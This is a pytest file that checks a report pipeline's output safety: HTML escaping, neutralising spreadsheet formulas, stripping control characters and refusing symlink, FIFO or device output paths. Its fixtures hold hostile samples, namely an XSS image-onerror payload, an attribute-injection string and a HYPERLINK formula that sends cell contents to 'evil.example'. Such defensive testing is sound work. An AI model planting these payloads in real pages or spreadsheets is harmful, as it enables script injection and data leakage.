"""Issue 13, items 8-10: what reaches a person is safe — HTML escaped through one helper, spreadsheet
cells never formulas, control characters never lose the workbook, ``-o`` never replaces a link,
FIFO, device or directory."""

from __future__ import annotations

import csv
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from pipeline.analyse import _dashboard, compare_html, compare_reports, national_table, report_table, timeline_svg
from pipeline.cli import main
from pipeline.data import ReportMeta
from pipeline.errors import UserError, check_output_file
from pipeline.predict import tag_sentences
from pipeline.report import csv_cell, esc, render_html, write_output
from pipeline.summary import summarise

XSS = "<img src=x onerror=alert(1)>"
ATTR = "x' onmouseover='alert(1)"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PIPELINE = Path(__file__).resolve().parents[2] / "pipeline"


@pytest.fixture(scope="module")
def hostile_records(tiny_model):
    sents = [f"Leaders say {XSS} is fine.", FORMULA, "+1 carers", "-2 posts", "@SUM(A1)", "Tab\tbell\x07 and \x1b escape.",
             "Plain sentence about supervision."]
    recs = tag_sentences(tiny_model, sents, f"rep{XSS}")
    for r in recs:
        r["section"] = f"Section {ATTR}"
    return recs


def test_esc_is_the_one_html_escape():
    assert esc(XSS) == "&lt;img src=x onerror=alert(1)&gt;"
    assert esc(ATTR) == "x&#x27; onmouseover=&#x27;alert(1)"
    assert esc('"') == "&quot;" and esc(None) == "" and esc(3) == "3"
    # every other module that writes HTML goes through it
    for name in ("report.py", "analyse.py"):
        src = (PIPELINE / name).read_text(encoding="utf-8")
        calls = [m.start() for m in re.finditer(r"html\.escape\(", src)]
        assert len(calls) == (1 if name == "report.py" else 0), f"{name} escapes HTML outside esc()"


def _no_live_markup(page: str) -> None:
    assert "<img src=x" not in page and "onerror=alert(1)>" not in page
    assert "' onmouseover='" not in page


def test_tagged_html_escapes_every_value(hostile_records):
    page = render_html(hostile_records, summarise(hostile_records), title=XSS)
    _no_live_markup(page)
    assert esc(XSS) in page and esc(ATTR) in page


def test_dashboard_escapes_metadata_values(hostile_records):
    rep = hostile_records[0]["report"]
    meta = {rep: ReportMeta(rep, council=XSS, date=f"2024-01-01{XSS}",
                            grades={"overall_effectiveness": XSS})}
    rows = report_table(hostile_records, meta)
    page = _dashboard(rows, national_table(hostile_records), [XSS], [])
    _no_live_markup(page)
    assert esc(XSS) in page
    _no_live_markup(timeline_svg([{**rows[0], "council": XSS}] * 2, XSS))


def test_compare_page_escapes_names_and_examples(hostile_records):
    changes = compare_reports([], hostile_records)
    _no_live_markup(compare_html(XSS, ATTR, changes))


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(hostile_records, tmp_path):
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("-1") == "'-1"
    assert csv_cell("@A1") == "'@A1" and csv_cell("\tx") == "'\tx" and csv_cell("ok") == "ok"
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None
    out = tmp_path / "t.csv"
    write_output(hostile_records, summarise(hostile_records), "csv", out)
    texts = [row["text"] for row in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    assert "'" + FORMULA in texts and "'+1 carers" in texts and "'-2 posts" in texts and "'@SUM(A1)" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)


def test_xlsx_cells_are_text_and_control_characters_do_not_lose_rows(hostile_records, tmp_path):
    out = tmp_path / "t.xlsx"
    write_output(hostile_records, summarise(hostile_records), "xlsx", out)
    ws = openpyxl.load_workbook(out)["sentences"]
    header = [c.value for c in ws[1]]
    col = header.index("text")
    cells = [row[col] for row in ws.iter_rows(min_row=2)]
    assert len(cells) == len(hostile_records)  # every row kept
    assert all(c.data_type == "s" for c in cells)  # no formula
    values = [c.value for c in cells]
    assert FORMULA in values and "Tab\tbell and  escape." in values  # BEL and ESC stripped, tab kept


@pytest.mark.parametrize("case", ["empty", "directory", "symlink", "fifo", "device", "under_a_file", "proc_subst"])
def test_output_must_be_a_regular_file_or_a_new_path(tmp_path, seeds, case):
    target = {"empty": "", "directory": str(tmp_path), "symlink": str(tmp_path / "link"),
              "fifo": str(tmp_path / "fifo"), "device": "/dev/null", "under_a_file": str(tmp_path / "file" / "out.jsonl"),
              "proc_subst": None}[case]
    (tmp_path / "file").write_text("keep", encoding="utf-8")
    (tmp_path / "link").symlink_to(tmp_path / "file")
    os.mkfifo(tmp_path / "fifo")
    if case == "proc_subst":
        cmd = f"'{sys.executable}' -m pipeline segment '{seeds[0]}' -o >(cat >/dev/null)"
        r = subprocess.run(["bash", "-c", cmd], capture_output=True, text=True, timeout=120)
        stderr = r.stderr
    else:
        r = CliRunner().invoke(main, ["segment", str(seeds[0]), "-o", target])
        stderr = r.stderr
    assert (r.returncode if case == "proc_subst" else r.exit_code) == 1
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in stderr, stderr
    assert (tmp_path / "file").read_text(encoding="utf-8") == "keep"
    assert (tmp_path / "link").is_symlink() and stat.S_ISFIFO(os.lstat(tmp_path / "fifo").st_mode)
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    assert not list(Path.cwd().glob(".*.tmp"))  # '' did not write into the working directory


def test_check_output_file_messages(tmp_path):
    (tmp_path / "f").write_text("x", encoding="utf-8")
    with pytest.raises(UserError, match=r"is a character device, not a regular file"):
        check_output_file("/dev/full")
    with pytest.raises(UserError, match=r"is a directory; give a file name"):
        check_output_file(tmp_path)
    with pytest.raises(UserError, match=r"f is a file, so no output file can be created under it"):
        check_output_file(tmp_path / "f" / "a" / "b.csv")
    assert check_output_file(tmp_path / "f") == tmp_path / "f"
    assert check_output_file(tmp_path / "new" / "dir" / "x.csv") == tmp_path / "new" / "dir" / "x.csv"
